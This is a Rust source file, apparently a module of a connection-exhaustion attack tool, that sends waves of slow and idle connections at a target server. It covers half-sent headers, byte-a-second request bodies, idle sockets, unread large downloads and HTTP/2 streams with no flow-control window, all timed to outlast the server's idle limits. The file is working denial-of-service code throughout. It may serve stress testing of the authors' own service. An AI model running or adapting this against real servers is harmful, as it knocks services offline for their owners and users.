//! Idle connections that occupy the server's limit, in waves, so that others can connect between them.

use std::time::Duration;

use async_trait::async_trait;
use futures_util::future::join_all;

use super::super::attack::Attack;
use super::super::connection::Connection;
use super::super::payload::http2;
use super::super::tally::Count;
use super::super::target::Target;

/// Length of a wave: longer than the server allows any idle connection.
const WAVE: Duration = Duration::from_secs(25);
/// The pause between two waves.
const REST: Duration = Duration::from_secs(8);
/// Time since the other attacks began.
const AFTER: Duration = Duration::from_secs(4);
/// The time between two bytes of a slow body.
const SLOW: Duration = Duration::from_secs(1);
/// A file of 3 MB.
const LARGE: &str = "static/avatars/amara.glb";

/// Several connections of the same kind.
pub(super) struct Crowd {
    name: &'static str,
    pub(super) size: usize,
    kind: Kind,
}

#[derive(Clone, Copy)]
enum Kind {
    HalfHead,
    SlowBody,
    Idle,
    Unread,
    Streams,
}

/// All kinds of crowd.
pub(super) const CROWDS: [Crowd; 5] = [
    Crowd { name: "half-sent heads", size: 100, kind: Kind::HalfHead },
    Crowd { name: "bodies of a byte a second", size: 60, kind: Kind::SlowBody },
    Crowd { name: "idle connections", size: 90, kind: Kind::Idle },
    Crowd { name: "large files that are not read", size: 40, kind: Kind::Unread },
    Crowd { name: "200 streams of HTTP/2 without a window", size: 10, kind: Kind::Streams },
];

#[async_trait]
impl Attack for Crowd {
    fn name(&self) -> &'static str {
        self.name
    }

    fn after(&self) -> Duration {
        AFTER
    }

    async fn run(&self, target: &Target, count: &Count) {
        loop {
            let wave = join_all((0..self.size).map(|_| hold(self.kind, target, count)));
            _ = tokio::time::timeout(WAVE, wave).await;
            tokio::time::sleep(REST).await;
        }
    }
}

/// Holds a connection open until the server closes it.
async fn hold(kind: Kind, target: &Target, count: &Count) {
    let Ok(mut connection) = target.connect().await else { return count.cut() };
    let first = first(kind, target);
    count.sent(first.len());
    if connection.send(&first).await.is_err() {
        return count.cut();
    }
    match kind {
        // Reading would help the server.
        Kind::Unread => std::future::pending::<()>().await,
        Kind::SlowBody => trickle(&mut connection, count).await,
        Kind::HalfHead | Kind::Idle | Kind::Streams => {}
    }
    match connection.reply().await {
        Some(reply) => count.status(reply.status),
        None => count.cut(),
    }
}

fn first(kind: Kind, target: &Target) -> Vec<u8> {
    match kind {
        Kind::HalfHead => (target.head("GET", "call") + "X-Slow: ").into_bytes(),
        Kind::SlowBody => {
            let head = target.head("POST", "api/offer");
            format!("{head}Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{{").into_bytes()
        }
        Kind::Idle => Vec::new(),
        Kind::Unread => (target.head("GET", LARGE) + "\r\n").into_bytes(),
        Kind::Streams => http2::streams(target.host(), &target.path(LARGE)),
    }
}

/// Sends a byte now and then, until the server has closed the connection.
async fn trickle(connection: &mut Connection, count: &Count) {
    while connection.send(b" ").await.is_ok() {
        count.more(1);
        tokio::time::sleep(SLOW).await;
    }
}
